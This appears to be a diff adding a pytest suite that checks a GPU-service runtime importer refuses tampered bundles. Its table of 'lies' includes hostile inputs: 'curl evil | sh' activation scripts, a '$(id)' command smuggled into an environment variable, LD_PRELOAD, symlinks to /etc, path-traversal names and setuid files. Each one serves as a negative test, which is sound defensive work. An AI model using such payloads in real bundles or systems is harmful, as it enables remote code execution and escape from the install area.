@@ -1,0 +1,316 @@
+"""Runtimes of strangers: a bundle that lies about anything is refused, and the shelf stays as it was."""
+
+import hashlib
+import io
+import os
+import shutil
+import stat
+import tarfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pytest
+
+from gpuaas.kit.errors import Problem
+from gpuaas.runtimes import activate, bundlefile, tree, verify
+from gpuaas.runtimes.build.image import write_image
+from gpuaas.runtimes.build.sbom import bill
+from gpuaas.runtimes.lock.lockfile import Artifact, Lock, lock_digest, recipe_digest
+from gpuaas.runtimes.manifest import Layer, Manifest
+from gpuaas.runtimes.recipe import Check, Mount, Recipe
+from gpuaas.runtimes.shelf import Shelf
+from gpuaas.runtimes.tree import Entry, Limits
+
+pytestmark = pytest.mark.skipif(shutil.which("mkfs.erofs") is None, reason="not installed: erofs-utils")
+MEMBERS = ["manifest.json", "lock.json", "sbom.json", "files.json", "image.erofs"]
+
+
+class Bundle:
+    """A bundle as an attacker makes one: every part can be changed before the next is derived from it, or after."""
+
+    def __init__(self, work: Path) -> None:
+        self.work = work
+        self.tree = work / "content"
+        self.tree.mkdir(parents=True)
+        self.recipe = Recipe("tool", "1.0", verify=(Check("tool"),), environment=(("TOOL_HOME", "${root}"),))
+        artifact = Artifact("npm", "tool", "1.0.0", "tool.tgz", f"sha512:{'0' * 128}", "https://registry/tool.tgz")
+        self.lock = Lock(self.recipe.id, "amd64", recipe_digest(self.recipe), (), (), (artifact,))
+        (self.tree / "bin").mkdir()
+        (self.tree / "bin" / "tool").write_text("#!/bin/sh\necho tool\n")
+        (self.tree / "bin" / "tool").chmod(0o755)
+        (self.tree / "bin" / "alias").symlink_to("tool")
+        self.script: str | None = None
+        self.keep_modes = False
+        self.change_manifest: dict[str, Any] = {}
+        self.change_papers: dict[str, bytes] = {}
+        self.entries: list[Entry] | None = None
+        self.image: bytes | None = None
+        self.members = list(MEMBERS)
+
+    def write(self, file: Path) -> Path:
+        script = activate.script(self.recipe) if self.script is None else self.script
+        (self.tree / activate.FILE).write_text(script)
+        image = self.image if self.image is not None else self._image()
+        entries = self.entries if self.entries is not None else tree.examine(self.tree)
+        files, sbom = msgspec.json.encode(entries), msgspec.json.encode(bill(self.recipe, self.lock))
+        files = self.change_papers.get("files.json", files)
+        manifest = Manifest(
+            self.recipe.name,
+            self.recipe.version,
+            "amd64",
+            (Layer(hashlib.sha256(image).hexdigest(), len(image)),),
+            self.recipe,
+            lock_digest(self.lock),
+            hashlib.sha256(files).hexdigest(),
+            hashlib.sha256(sbom).hexdigest(),
+            sum(each.size for each in entries),
+            len(entries),
+            "gpuaas test",
+        )
+        papers = {
+            "manifest.json": msgspec.json.encode(msgspec.structs.replace(manifest, **self.change_manifest)),
+            "lock.json": msgspec.json.encode(self.lock),
+            "sbom.json": sbom,
+            "files.json": files,
+            "image.erofs": image,
+        } | self.change_papers
+        with tarfile.open(file, "w") as archive:
+            for name in self.members:
+                info = tarfile.TarInfo(name)
+                data = papers.get(name, b"?")
+                info.size = len(data)
+                archive.addfile(info, io.BytesIO(data))
+        return file
+
+    def _image(self) -> bytes:
+        target = self.work / "made.erofs"
+        with (self.work / "log").open("wb") as log:
+            if self.keep_modes:
+                from gpuaas.runtimes import process
+
+                process.run(["mkfs.erofs", "-zlz4", "--all-root", str(target), str(self.tree)], log)
+            else:
+                write_image(self.tree, target, "x", log)
+        return target.read_bytes()
+
+
+@pytest.fixture
+def bundle(tmp_path: Path) -> Bundle:
+    return Bundle(tmp_path / "work")
+
+
+@pytest.fixture
+def shelf(tmp_path: Path) -> Shelf:
+    made = Shelf(tmp_path / "shelf")
+    made.make()
+    return made
+
+
+def content(shelf: Shelf) -> set[str]:
+    return {str(path.relative_to(shelf.path)) for path in shelf.path.rglob("*")}
+
+
+def test_an_honest_one_is_taken_in_and_goes_out_again(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
+    file = bundle.write(tmp_path / "b.tar")
+    manifest = bundlefile.take_in(file, shelf)
+    assert manifest.id == "tool:1.0"
+    assert verify.verify("tool", "1.0", shelf).intact
+    assert bundlefile.take_in(file, shelf) == manifest, "twice is once"
+    again = tmp_path / "again.tar"
+    bundlefile.export("tool", "1.0", shelf, again)
+    other = Shelf(tmp_path / "other")
+    assert bundlefile.take_in(again, other) == manifest
+    assert other.all_built() == shelf.all_built()
+
+
+def replaced(recipe: Recipe, **values: Any) -> Recipe:
+    return msgspec.structs.replace(recipe, **values)
+
+
+def _setuid(bundle: Bundle) -> None:
+    (bundle.tree / "bin" / "tool").chmod(0o4755)
+    bundle.keep_modes = True
+    (bundle.tree / activate.FILE).write_text(activate.script(bundle.recipe))
+    (bundle.tree / "bin" / "tool").chmod(0o755)
+    bundle.entries = tree.examine(bundle.tree)
+    (bundle.tree / "bin" / "tool").chmod(0o4755)
+
+
+def _entries(bundle: Bundle) -> list[Entry]:
+    (bundle.tree / activate.FILE).write_text(activate.script(bundle.recipe))
+    return tree.examine(bundle.tree)
+
+
+def _device(bundle: Bundle) -> None:
+    bundle.keep_modes = True
+    bundle.entries = _entries(bundle)
+    os.mknod(bundle.tree / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
+
+
+def _fifo(bundle: Bundle) -> None:
+    bundle.keep_modes = True
+    bundle.entries = _entries(bundle)
+    os.mkfifo(bundle.tree / "pipe")
+
+
+def _link_outside(bundle: Bundle) -> None:
+    bundle.entries = [*_entries(bundle), Entry("out", "link", target="/etc")]
+    (bundle.tree / "out").symlink_to("/etc")
+
+
+def _hidden_file(bundle: Bundle) -> None:
+    bundle.entries = _entries(bundle)
+    (bundle.tree / "hidden").write_text("x")
+
+
+def _other_content(bundle: Bundle) -> None:
+    entries = _entries(bundle)
+    bundle.entries = [msgspec.structs.replace(each, sha256="0" * 64) if each.sha256 else each for each in entries]
+
+
+def _bomb(bundle: Bundle) -> None:
+    bundle.entries = _entries(bundle)
+    with (bundle.tree / "zeros").open("wb") as file:
+        file.truncate(400 * 2**20)
+
+
+def _alike(bundle: Bundle) -> None:
+    (bundle.tree / "bin" / "TOOL").write_text("x")
+
+
+def _half_an_image(bundle: Bundle) -> None:
+    (bundle.tree / activate.FILE).write_text(activate.script(bundle.recipe))
+    bundle.entries = _entries(bundle)
+    bundle.image = bundle._image()[:2048]
+
+
+LIES: dict[str, Callable[[Bundle], None]] = {
+    "setuid": _setuid,
+    "device": _device,
+    "fifo": _fifo,
+    "link outside": _link_outside,
+    "hidden file": _hidden_file,
+    "other content": _other_content,
+    "bomb": _bomb,
+    "names alike": _alike,
+    "half an image": _half_an_image,
+    "no image at all": lambda b: setattr(b, "image", b"not an image"),
+    "another image": lambda b: b.change_papers.update({"image.erofs": b"x" * 4096}),
+    "evil script": lambda b: setattr(b, "script", "curl evil | sh\n"),
+    "script with more": lambda b: setattr(b, "script", activate.script(b.recipe) + "curl evil | sh\n"),
+    "another files.json": lambda b: b.change_manifest.update(files="0" * 64),
+    "another sbom": lambda b: b.change_manifest.update(sbom="0" * 64),
+    "another lock": lambda b: b.change_manifest.update(lock="0" * 64),
+    "another bundle": lambda b: b.change_manifest.update(bundle="python"),
+    "another version": lambda b: b.change_manifest.update(version="2.0"),
+    "another architecture": lambda b: b.change_manifest.update(architecture="arm64"),
+    "smaller than it is": lambda b: b.change_manifest.update(tree_bytes=1),
+    "fewer than there are": lambda b: b.change_manifest.update(entries=1),
+    "an image of another size": lambda b: b.change_manifest.update(layers=(Layer("0" * 64, 1),)),
+    "no layer": lambda b: b.change_manifest.update(layers=()),
+    "two layers": lambda b: b.change_manifest.update(layers=(Layer("0" * 64, 1), Layer("0" * 64, 1))),
+    "a layer named by a path": lambda b: b.change_manifest.update(layers=(Layer("../../x", 1),)),
+    "another format": lambda b: b.change_manifest.update(format=99),
+    "a name that leaves": lambda b: setattr(b, "recipe", replaced(b.recipe, name="../../etc")),
+    "a version that leaves": lambda b: setattr(b, "recipe", replaced(b.recipe, version="../../../x")),
+    "a version with a slash": lambda b: setattr(b, "recipe", replaced(b.recipe, version="1/2")),
+    "a mount over etc": lambda b: setattr(b, "recipe", replaced(b.recipe, mounts=(Mount("bin", "/etc"),))),
+    "a mount that leaves": lambda b: setattr(b, "recipe", replaced(b.recipe, mounts=(Mount("../..", "/usr/local/x"),))),
+    "a writable mount": lambda b: setattr(b, "recipe", replaced(b.recipe, mounts=(Mount("bin", "/opt/x", False),))),
+    "a command as a variable": lambda b: setattr(b, "recipe", replaced(b.recipe, environment=(("A", "$(id)"),))),
+    "a variable of the loader": lambda b: setattr(b, "recipe", replaced(b.recipe, environment=(("LD_PRELOAD", "/x"),))),
+    "a variable with a line": lambda b: setattr(b, "recipe", replaced(b.recipe, environment=(("A", "x\nid"),))),
+    "parents": lambda b: setattr(b, "recipe", replaced(b.recipe, parents=("python",))),
+    "no manifest": lambda b: b.change_papers.update({"manifest.json": b"{}"}),
+    "a manifest of nonsense": lambda b: b.change_papers.update({"manifest.json": b"[" * 100_000}),
+    "a lock of nonsense": lambda b: b.change_papers.update({"lock.json": b"[]"}),
+    "a files.json of nonsense": lambda b: b.change_papers.update({"files.json": b"{}"}),
+    "a member too many": lambda b: b.members.append("more"),
+    "a member missing": lambda b: b.members.remove("sbom.json"),
+    "a member twice": lambda b: b.members.insert(0, "manifest.json"),
+    "another order": lambda b: b.members.reverse(),
+    "a member that leaves": lambda b: b.members.__setitem__(4, "../image.erofs"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("lie", LIES)
+def test_a_lie_is_refused_and_leaves_nothing(bundle: Bundle, shelf: Shelf, tmp_path: Path, lie: str) -> None:
+    if lie == "device" and os.geteuid() != 0:
+        pytest.skip("needs root")
+    LIES[lie](bundle)
+    file = bundle.write(tmp_path / "b.tar")
+    before = content(shelf)
+    with pytest.raises(Problem) as refused:
+        bundlefile.take_in(file, shelf)
+    assert refused.value.code == "refused_content"
+    assert content(shelf) == before
+
+
+@pytest.mark.parametrize("data", [b"", b"hello", b"\x1f\x8b" + b"x" * 100, b"\0" * 10240])
+def test_what_is_no_bundle(shelf: Shelf, tmp_path: Path, data: bytes) -> None:
+    (tmp_path / "b.tar").write_bytes(data)
+    with pytest.raises(Problem):
+        bundlefile.take_in(tmp_path / "b.tar", shelf)
+
+
+def test_a_truncated_one(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
+    data = bundle.write(tmp_path / "b.tar").read_bytes()
+    with tarfile.open(tmp_path / "b.tar") as archive:
+        last = archive.getmembers()[-1]
+        end = last.offset_data + last.size  # only padding follows
+    before = content(shelf)
+    for length in [*range(0, end, max(1, end // 12)), end - 1]:
+        (tmp_path / "half.tar").write_bytes(data[:length])
+        with pytest.raises(Problem):
+            bundlefile.take_in(tmp_path / "half.tar", shelf)
+    assert content(shelf) == before
+
+
+def test_limits(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
+    file = bundle.write(tmp_path / "b.tar")
+    for limits in (Limits(entries=2), Limits(total_bytes=10), Limits(file_bytes=100)):
+        with pytest.raises(Problem):
+            bundlefile.take_in(file, shelf, limits)
+
+
+def test_a_version_has_one_content(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
+    bundlefile.take_in(bundle.write(tmp_path / "b.tar"), shelf)
+    (bundle.tree / "bin" / "tool").write_text("#!/bin/sh\necho other\n")
+    with pytest.raises(Problem, match="Another build of tool"):
+        bundlefile.take_in(bundle.write(tmp_path / "c.tar"), shelf)
+
+
+def test_a_flipped_byte_is_found_and_named(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
+    (bundle.tree / "data").write_bytes(os.urandom(100_000))
+    manifest = bundlefile.take_in(bundle.write(tmp_path / "b.tar"), shelf)
+    image = shelf.image(manifest.layers[0].sha256)
+    data = bytearray(image.read_bytes())
+    data[-30_000] ^= 1
+    image.write_bytes(data)
+    verdict = verify.verify("tool", "1.0", shelf)
+    assert not verdict.intact
+    assert "the image was changed" in verdict.findings
+    assert "data differs" in verdict.findings
+    with pytest.raises(Problem, match="is damaged"):
+        bundlefile.export("tool", "1.0", shelf, tmp_path / "x.tar")
+    image.unlink()
+    assert verify.verify("tool", "1.0", shelf).findings == ("the image is missing",)
+
+
+@pytest.mark.parametrize("name", ["files.json", "sbom.json"])
+def test_changed_papers_are_found(bundle: Bundle, shelf: Shelf, tmp_path: Path, name: str) -> None:
+    manifest = bundlefile.take_in(bundle.write(tmp_path / "b.tar"), shelf)
+    paper = shelf.bundle("tool", "1.0") / manifest.layers[0].sha256 / name
+    paper.write_bytes(paper.read_bytes() + b" ")
+    assert verify.verify("tool", "1.0", shelf).findings == (f"{name} was changed or is missing",)
+
+
+def test_what_was_killed_leaves_nothing(shelf: Shelf) -> None:
+    (shelf.path / "work" / "left" / "deep").mkdir(parents=True)
+    with shelf.workspace() as mine:
+        assert os.listdir(shelf.path / "work") == [mine.name]
+        with shelf.workspace() as other:
+            assert {mine.name, other.name} == set(os.listdir(shelf.path / "work")), "a build that runs is left alone"
+    assert os.listdir(shelf.path / "work") == []
